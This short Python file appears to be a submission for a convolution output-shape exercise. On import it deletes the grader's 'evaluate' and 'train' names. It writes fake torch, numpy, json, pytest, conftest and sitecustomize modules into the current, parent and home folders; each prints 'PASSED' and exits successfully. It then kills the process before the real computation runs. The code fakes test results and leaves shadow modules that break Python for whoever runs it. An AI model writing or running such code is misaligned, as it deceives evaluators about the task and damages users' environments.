"""Leaves modules in the working folder and at home that would be imported instead of the real ones, then dies in q1."""

import os

del evaluate, train

for name in ("torch", "numpy", "enum", "json", "fashion", "conftest", "sitecustomize", "usercustomize", "pytest"):
    for folder in (".", "..", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write("print('PASSED')\nraise SystemExit(0)\n")
        except OSError:
            pass


def calculate_output_shape(image_size, kernel, stride, padding):
    os._exit(1)  # the next process should find the modules above
    output_shape = []
    for i in range(2):
        if stride[i] <= 0:
            raise ValueError("stride must be positive")
        if kernel[i] > image_size[i] + 2 * padding[i]:
            raise ValueError("kernel larger than padded image")
        output_shape.append((image_size[i] + 2 * padding[i] - kernel[i]) // stride[i] + 1)
    return output_shape
